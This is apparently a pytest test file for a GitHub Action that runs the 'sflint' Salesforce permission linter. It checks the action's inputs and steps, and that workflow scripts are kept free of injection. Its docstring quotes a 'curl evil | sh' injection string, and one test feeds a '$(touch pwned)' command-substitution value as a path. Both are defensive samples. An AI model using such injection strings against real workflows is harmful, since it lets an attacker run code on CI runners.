"""The GitHub Action (action.yml): its shape, and its script run for real.

GitHub Docs, "Security hardening for GitHub Actions": an expression in a ``run:`` script is
substituted into the script before the shell sees it, so a branch name or an input such as
``"; curl evil | sh #`` would run; inputs and event data go through ``env:`` instead."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.conftest import EXAMPLE, ROOT

ACTION = ROOT / "action.yml"


def action() -> dict[str, Any]:
    doc = yaml.safe_load(ACTION.read_text(encoding="utf-8"))
    assert isinstance(doc, dict)
    return doc


def steps() -> list[dict[str, Any]]:
    return list(action()["runs"]["steps"])


def test_the_action_is_composite_with_its_inputs() -> None:
    doc = action()
    assert doc["runs"]["using"] == "composite"
    assert list(doc["inputs"]) == [
        "paths",
        "fail-on",
        "new-since",
        "sarif-file",
        "upload-sarif",
        "python-version",
    ]
    assert {k: v.get("default") for k, v in doc["inputs"].items()} == {
        "paths": ".",
        "fail-on": "error",
        "new-since": "",
        "sarif-file": "sflint.sarif",
        "upload-sarif": "true",
        "python-version": "3.12",
    }
    assert all(v["description"] for v in doc["inputs"].values())
    assert doc["outputs"]["exit-code"]["value"] == "${{ steps.check.outputs.exit-code }}"


def test_no_run_script_holds_an_expression() -> None:
    for step in steps():
        if "run" in step:
            assert "${{" not in step["run"], step.get("name")
            assert step["shell"] == "bash", step.get("name")


def test_steps_install_run_upload_and_fail() -> None:
    names = [s.get("name", s.get("uses")) for s in steps()]
    assert names == [
        "actions/setup-python@v5.1.0",
        "Install sflint",
        "Run sflint",
        "Upload SARIF",
        "Fail on findings",
    ]
    install, run, upload = steps()[1], steps()[2], steps()[3]
    # The action's own checkout, not a package of that name from an index.
    assert '-m pip install --quiet "$GITHUB_ACTION_PATH"' in install["run"]
    # Pinned to a release, never a moving branch.
    assert re.fullmatch(r"github/codeql-action/upload-sarif@v\d+\.\d+\.\d+", upload["uses"])
    assert upload["with"] == {"sarif_file": "${{ inputs.sarif-file }}", "category": "sflint"}
    assert upload["if"].startswith("always()")
    assert run["env"]["SFLINT_NEW_SINCE"] == (
        "${{ inputs.new-since || github.event.pull_request.base.sha }}"
    )
    assert '>> "$GITHUB_STEP_SUMMARY"' in run["run"]
    assert "--format markdown" in run["run"]


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_the_run_script_checks_only_what_a_change_adds(tmp_path: Path) -> None:
    """The step's script as the runner runs it: env from the inputs, $RUNNER_TEMP holding
    the venv, on a repository whose change adds one TwoFactorApi grant; a path input that
    looks like shell code stays a path."""
    repo = tmp_path / "repo"
    shutil.copytree(EXAMPLE, repo)
    git = ["git", "-c", "user.email=t@example.com", "-c", "user.name=t"]
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "base"]):
        subprocess.run([*git, *args], cwd=repo, check=True, capture_output=True)
    sync = repo / "force-app/main/default/permissionsets/Reporting_Sync.permissionset-meta.xml"
    grant = "<userPermissions><enabled>true</enabled><name>TwoFactorApi</name></userPermissions>"
    sync.write_text(sync.read_text().replace("</PermissionSet>", grant + "\n</PermissionSet>"))
    runner = tmp_path / "runner"
    venv_bin = runner / "sflint-venv" / "bin"
    venv_bin.mkdir(parents=True)
    (venv_bin / "sflint").write_text(f'#!/bin/sh\nexec "{sys.executable}" -m sflint "$@"\n')
    (venv_bin / "sflint").chmod(0o755)
    (runner / "output").touch()
    (runner / "summary.md").touch()
    script = steps()[2]["run"]
    env = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "RUNNER_TEMP": str(runner),
        "GITHUB_OUTPUT": str(runner / "output"),
        "GITHUB_STEP_SUMMARY": str(runner / "summary.md"),
        "SFLINT_PATHS": ".\n",
        "SFLINT_FAIL_ON": "error",
        "SFLINT_NEW_SINCE": "HEAD",
        "SFLINT_SARIF": str(tmp_path / "out.sarif"),
    }
    done = subprocess.run(
        ["bash", "-e", "-c", script], cwd=repo, env=env, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert (runner / "output").read_text() == "exit-code=1\n"
    [annotation] = done.stdout.splitlines()[:1]
    assert annotation.startswith(
        "::error file=force-app/main/default/permissionsets/Reporting_Sync.permissionset-meta.xml,"
        "line=12,title=SFL001 integration-api-mfa::"
    )
    assert done.stdout.splitlines()[1:] == [
        "::notice title=sflint::4 findings already in HEAD not shown"
    ]
    summary = (runner / "summary.md").read_text()
    assert summary.startswith("## sflint: 1 finding (1 error)\n")
    assert (tmp_path / "out.sarif").is_file()

    env["SFLINT_PATHS"] = "$(touch pwned) `touch pwned2`"
    done = subprocess.run(
        ["bash", "-e", "-c", script], cwd=repo, env=env, capture_output=True, text=True
    )
    assert (runner / "output").read_text().endswith("exit-code=2\n")
    assert not (repo / "pwned").exists() and not (repo / "pwned2").exists()
    assert "sflint: error: $(touch: no such file or folder" in done.stderr


def test_the_documented_workflow_keeps_expressions_out_of_scripts() -> None:
    workflow = yaml.safe_load((ROOT / "docs" / "github-actions.yml").read_text(encoding="utf-8"))
    runs = [s for job in workflow["jobs"].values() for s in job["steps"] if "run" in s]
    assert runs
    assert [s.get("name", s["run"]) for s in runs if "${{" in s["run"]] == []
    assert any("--new-since" in s["run"] for s in runs)
